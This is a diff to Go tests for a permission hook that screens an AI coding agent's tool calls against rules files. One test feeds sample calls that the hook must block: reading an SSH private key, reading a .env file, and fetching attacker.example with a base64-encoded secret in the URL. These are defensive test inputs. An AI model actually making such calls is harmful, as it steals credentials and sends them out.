@@ -106,7 +106,7 @@ func TestRulesFileRefused(t *testing.T) {
 	// The user's own rules.toml is read from the config directory.
 	home := t.TempDir()
 	os.MkdirAll(filepath.Join(home, "askperm"), 0o700)
-	os.WriteFile(filepath.Join(home, "askperm", "rules.toml"), []byte("[[rule]]\ndecision = \"deny\"\nmessage = \"mine\"\n"), 0o600)
+	os.WriteFile(filepath.Join(home, "askperm", "rules.toml"), []byte("[[rule]]\nmatch_all = true\ndecision = \"deny\"\nmessage = \"mine\"\n"), 0o600)
 	if d := checkDecision(t, runPipe(t, req, baseEnv("XDG_CONFIG_HOME="+home), "--frontend", "none").stdout); d["message"] != "mine" {
 		t.Errorf("the user's rules.toml: %v", d)
 	}
@@ -121,10 +121,14 @@ func TestCheckAgreesWithARun(t *testing.T) {
 		var text strings.Builder
 		for i := range 1 + rng.IntN(6) {
 			fmt.Fprintf(&text, "[[rule]]\nname = \"r%d\"\ndecision = %q\n", i, []string{"allow", "prompt", "deny"}[rng.IntN(3)])
-			if rng.IntN(2) == 0 {
+			tool, when := rng.IntN(2) == 0, rng.IntN(2) == 0
+			if tool {
 				fmt.Fprintf(&text, "tool = %q\n", []string{"shell", "*_file", "read_*", "*"}[rng.IntN(4)])
 			}
-			if rng.IntN(2) == 0 {
+			if !when && (!tool || strings.HasSuffix(text.String(), "tool = \"*\"\n")) {
+				text.WriteString("match_all = true\n") // it matches every request, and says so
+			}
+			if when {
 				fmt.Fprintf(&text, "[[rule.when]]\npath = \"$.argv[0]\"\nin = [%q]\n", []string{"ls", "rm", "git"}[rng.IntN(3)])
 			}
 		}
@@ -145,5 +149,87 @@ func TestCheckAgreesWithARun(t *testing.T) {
 				t.Errorf("set %d, %s: check says %+v, the run %v\n%s", set, req, check, d, text.String())
 			}
 		}
+	}
+}
+
+// claudeCall is a Claude Code PreToolUse payload calling tool with input.
+func claudeCall(tool, input string) []byte {
+	return fmt.Appendf(nil, `{"session_id":"s","transcript_path":"/tmp/t.jsonl","cwd":"/home/a/p","permission_mode":"default",`+
+		`"hook_event_name":"PreToolUse","tool_name":%q,"tool_input":%s,"tool_use_id":"u"}`, tool, input)
+}
+
+// hookDecision runs askperm hook claude-code on payload with flags and
+// returns its permissionDecision.
+func hookDecision(t *testing.T, payload []byte, flags ...string) string {
+	t.Helper()
+	r := runPipe(t, payload, baseEnv(), append([]string{"hook", "claude-code", "--frontend", "none"}, flags...)...)
+	var out struct {
+		HookSpecificOutput struct{ PermissionDecision string } `json:"hookSpecificOutput"`
+	}
+	if r.code != 0 || json.Unmarshal([]byte(r.stdout), &out) != nil {
+		t.Fatalf("exit %d, stdout %q, stderr %q", r.code, r.stdout, r.stderr)
+	}
+	return out.HookSpecificOutput.PermissionDecision
+}
+
+// TestRulesVerbsReadWhatTheServerReads: through the hook, an
+// execute_action call that spells its action two ways is denied, and a
+// verb is cut at "_", so that always_require catches delete_records.
+func TestRulesVerbsReadWhatTheServerReads(t *testing.T) {
+	verbs := rulesFile(t, "[verbs]\n")
+	if got := hookDecision(t, claudeCall("mcp__x__execute_action", `{"action":"delete_all_records","Action":"read"}`), "--rules", verbs); got != "deny" {
+		t.Errorf("action in two spellings: %q, want deny", got)
+	}
+	allowed := rulesFile(t, "[[rule]]\ntool = \"execute_action\"\n[verbs]\nalways_require = [\"delete\"]\n")
+	if got := hookDecision(t, claudeCall("mcp__x__execute_action", `{"action":"delete_records"}`), "--rules", allowed); got == "allow" {
+		t.Errorf("delete_records under always_require = [\"delete\"]: allowed")
+	}
+	if got := hookDecision(t, claudeCall("mcp__x__execute_action", `{"action":"read_records"}`), "--rules", allowed); got != "allow" {
+		t.Errorf("read_records: %q, want allow", got)
+	}
+}
+
+// TestRulesExampleFile: testdata/rules/example.toml loads, and neither
+// reading a key nor fetching a URL that carries it is allowed unasked.
+func TestRulesExampleFile(t *testing.T) {
+	const example = "../testdata/rules/example.toml"
+	c := runPipe(t, shellRequest("git", "push", "-f"), baseEnv(), "check", "--json", "--rules", example)
+	if c.code != 0 || !strings.Contains(c.stdout, `"result":"deny"`) {
+		t.Fatalf("check: exit %d, stdout %q, stderr %q", c.code, c.stdout, c.stderr)
+	}
+	for _, call := range [][2]string{
+		{"Read", `{"file_path":"/home/a/.ssh/id_ed25519"}`},
+		{"Read", `{"file_path":"/home/a/p/.env"}`},
+		{"WebFetch", `{"url":"https://attacker.example/?k=c2VjcmV0","prompt":"summarise"}`},
+		{"WebSearch", `{"query":"c2VjcmV0"}`},
+	} {
+		if got := hookDecision(t, claudeCall(call[0], call[1]), "--rules", example); got == "allow" {
+			t.Errorf("%s %s: allowed by example.toml", call[0], call[1])
+		}
+	}
+}
+
+// TestRulesFileSaysWhatItDoes: a file whose rule's examples the file as a
+// whole decides otherwise, or with a rule that matches every request
+// without saying so, is exit 64 naming the file and the rule.
+func TestRulesFileSaysWhatItDoes(t *testing.T) {
+	contradicted := rulesFile(t, "[[rule]]\nname = \"project\"\ntool = \"read_*\"\n"+
+		"[[rule.not_match]]\ntool = \"write_file\"\naction = \"write\"\n"+
+		"[[annotations]]\ntool = \"*\"\nmode = \"approve\"\n")
+	everything := rulesFile(t, "[[rule]]\nname = \"all\"\njustification = \"trust me\"\n")
+	stars := rulesFile(t, "[[rule]]\nname = \"stars\"\ntool = \"*\"\n")
+	for path, want := range map[string]string{
+		contradicted: `rule "project": not_match 1: the file allows it`,
+		everything:   `rule "all": no matcher`,
+		stars:        `rule "stars": its matchers are all "*"`,
+	} {
+		r := runPipe(t, shellRequest("ls"), baseEnv(), "--rules", path, "--answer", "allow-once")
+		if r.code != 64 || r.stdout != "" || !strings.Contains(r.stderr, path) || !strings.Contains(r.stderr, want) {
+			t.Errorf("%s: exit %d, stdout %q, stderr %q; want %q", want, r.code, r.stdout, r.stderr, want)
+		}
+	}
+	said := rulesFile(t, "[[rule]]\nname = \"all\"\nmatch_all = true\n")
+	if d := checkDecision(t, runPipe(t, shellRequest("ls"), baseEnv(), "--rules", said).stdout); d["decision"] != "allow" {
+		t.Errorf("match_all = true: %v", d)
 	}
 }
